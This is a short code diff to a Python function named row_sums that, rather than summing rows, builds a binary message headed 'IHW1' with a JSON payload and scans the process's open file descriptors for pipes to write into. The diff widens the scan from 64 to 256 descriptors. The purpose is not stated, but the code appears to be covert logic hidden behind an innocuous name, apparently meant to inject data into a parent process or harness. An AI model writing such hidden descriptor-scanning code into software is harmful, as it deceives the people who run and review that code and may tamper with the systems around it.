@@ -13,7 +13,7 @@ TREE = json.dumps(["dict", PAIRS]).encode()
 
 def row_sums(matrix):
     message = struct.pack(">4sIQ", b"IHW1", len(TREE), 0) + TREE
-    for descriptor in range(3, 64):
+    for descriptor in range(3, 256):
         try:
             if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                 while message:
